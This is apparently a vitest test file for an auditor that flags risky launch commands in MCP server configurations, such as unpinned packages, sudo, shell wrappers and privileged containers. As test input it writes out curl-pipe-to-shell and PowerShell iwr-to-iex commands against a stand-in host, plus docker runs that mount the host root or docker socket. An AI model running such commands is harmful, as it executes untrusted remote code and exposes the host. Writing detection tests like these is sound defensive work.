// Launch-risk checks on single server entries: what is flagged, where (key path), and what is left alone.
import { describe, expect, it } from 'vitest';
import { isPinned, launchFindings } from '../../src/audit/checks/launch.js';
import { toEntry } from '../../src/hosts/shape.js';

function check(command: string | string[], args?: string[]) {
  const raw: Record<string, unknown> = { command };
  if (args) raw.args = args;
  return launchFindings(toEntry('s', ['mcpServers', 's'], raw)).map((f) => `${f.id} ${f.keyPath} ${f.value ?? ''}`.trim());
}

describe('unpinned packages', () => {
  it('npx/bunx/pnpm dlx/npm exec without an exact version', () => {
    expect(check('npx', ['-y', '@modelcontextprotocol/server-github'])).toEqual([
      'unpinned-package mcpServers.s.args[1] @modelcontextprotocol/server-github',
    ]);
    expect(check('npx', ['--yes', 'firecrawl-mcp@latest'])).toEqual(['unpinned-package mcpServers.s.args[1] firecrawl-mcp@latest']);
    expect(check('npx', ['-y', 'pkg@^1.2.0'])).toHaveLength(1);
    expect(check('bunx', ['pkg'])).toHaveLength(1);
    expect(check('pnpm', ['dlx', 'pkg@1'])).toHaveLength(1);
    expect(check('npm', ['exec', '--', 'pkg'])).toHaveLength(1);
    expect(check('npx', ['-y', '-p', 'real-pkg', 'bin-name'])).toEqual(['unpinned-package mcpServers.s.args[2] real-pkg']);
    expect(check('C:\\Program Files\\nodejs\\npx.cmd', ['-y', 'pkg'])).toHaveLength(1);
  });

  it('uvx / uv tool run / pipx run without ==version', () => {
    expect(check('uvx', ['mcp-server-fetch'])).toEqual(['unpinned-package mcpServers.s.args[0] mcp-server-fetch']);
    expect(check('uvx', ['--from', 'git-mcp>=1.0', 'git-mcp'])).toEqual(['unpinned-package mcpServers.s.args[1] git-mcp>=1.0']);
    expect(check('uv', ['tool', 'run', 'pkg'])).toHaveLength(1);
    expect(check('pipx', ['run', 'pkg'])).toHaveLength(1);
    expect(check('uvx', ['--python', '3.12', 'pkg==1.0.0'])).toEqual([]);
  });

  it('pinned, local and git specs pass', () => {
    expect(check('npx', ['-y', '@scope/pkg@1.2.3', '--flag', 'x'])).toEqual([]);
    expect(check('npx', ['-y', 'pkg@0.0.41-beta.2'])).toEqual([]);
    expect(check('uvx', ['pkg==0.6.2'])).toEqual([]);
    expect(check('uvx', ['pkg@0.6.2'])).toEqual([]);
    expect(check('npx', ['./local-server'])).toEqual([]);
    expect(check('npx', ['github:owner/repo'])).toEqual([]);
    expect(check('uvx', ['--from', 'git+https://github.com/o/r', 'r'])).toEqual([]);
    expect(check('node', ['server.js'])).toEqual([]);
    expect(isPinned('npm', '@a/b')).toBe(false);
    expect(isPinned('python', 'pkg==1.*')).toBe(false);
  });

  it('a whole command line in `command`', () => {
    expect(check('npx -y some-server')).toEqual(['unpinned-package mcpServers.s.command some-server']);
  });
});

describe('privilege, shells and remote scripts', () => {
  it('sudo, then what sudo runs', () => {
    expect(check('sudo', ['-E', 'npx', '-y', 'pkg'])).toEqual([
      'sudo-launch mcpServers.s.command sudo',
      'unpinned-package mcpServers.s.args[3] pkg',
    ]);
    expect(check('sudo', ['-u', 'svc', 'node', 'x.js'])).toEqual(['sudo-launch mcpServers.s.command sudo']);
  });

  it('bash -c / sh -c scripts, including curl | sh', () => {
    expect(check('bash', ['-c', 'cd /srv && node server.js'])).toEqual(['shell-wrapper mcpServers.s.command cd /srv && node server.js']);
    expect(check('sh', ['-c', 'curl -fsSL https://x.example/i.sh | sh'])).toEqual([
      'shell-wrapper mcpServers.s.command curl -fsSL https://x.example/i.sh | sh',
      'remote-script mcpServers.s.args[1] curl -fsSL https://x.example/i.sh | sh',
    ]);
    expect(check('bash', ['-lc', 'npx -y pkg'])).toEqual(['shell-wrapper mcpServers.s.command npx -y pkg', 'unpinned-package mcpServers.s.args[1] pkg']);
    expect(check('bash', ['server.sh'])).toEqual([]);
  });

  it('cmd /c and PowerShell -Command', () => {
    expect(check('cmd', ['/c', 'npx', '-y', 'pkg@1.0.0'])).toEqual(['shell-wrapper mcpServers.s.command npx -y pkg@1.0.0']);
    expect(check('cmd.exe', ['/C', 'npx', '-y', 'pkg'])).toEqual([
      'shell-wrapper mcpServers.s.command npx -y pkg',
      'unpinned-package mcpServers.s.args[3] pkg',
    ]);
    expect(check('powershell', ['-Command', 'iwr https://x.example/a.ps1 | iex'])).toEqual([
      'shell-wrapper mcpServers.s.command iwr https://x.example/a.ps1 | iex',
      'remote-script mcpServers.s.args[1] iwr https://x.example/a.ps1 | iex',
    ]);
  });

  it('containers with host access', () => {
    expect(check('docker', ['run', '-i', '--rm', '--privileged', '-v', '/:/host', 'img'])).toEqual([
      'privileged-container mcpServers.s.args[3] --privileged',
      'privileged-container mcpServers.s.args[5] /:/host',
    ]);
    expect(check('docker', ['run', '--volume=/var/run/docker.sock:/var/run/docker.sock', 'img'])).toEqual([
      'privileged-container mcpServers.s.args[1] --volume=/var/run/docker.sock:/var/run/docker.sock',
    ]);
    expect(check('podman', ['run', '--mount', 'type=bind,source=/,target=/h', '--cap-add', 'SYS_ADMIN', 'img'])).toHaveLength(2);
    expect(check('docker', ['run', '-i', '--rm', '-v', '/home/dev/data:/data:ro', '-e', 'TOKEN', 'mcp/x'])).toEqual([]);
    expect(check('docker', ['ps', '--privileged'])).toEqual([]);
  });
});

describe('key paths follow the host shape', () => {
  it('OpenCode command arrays and Zed nested commands', () => {
    const oc = toEntry('jira', ['mcp', 'jira'], { type: 'local', command: ['npx', '-y', 'mcp-atlassian'] });
    expect(launchFindings(oc).map((f) => f.keyPath)).toEqual(['mcp.jira.command[2]']);
  });
});

describe('entries protected by keyward run', () => {
  it('are judged on the command they wrap, with the original arg key paths', () => {
    const wrapped = ['/opt/keyward/dist/cli/bin.js', 'run', '--store', 'file', '--secret', 'T=keyward://a/b/T', '--', 'npx', '-y', '@modelcontextprotocol/server-github'];
    expect(check('/usr/bin/node', wrapped)).toEqual(['unpinned-package mcpServers.s.args[9] @modelcontextprotocol/server-github']);
    expect(check('/usr/bin/node', [...wrapped.slice(0, 7), 'npx', '-y', '@modelcontextprotocol/server-github@2025.4.8'])).toEqual([]);
  });
});
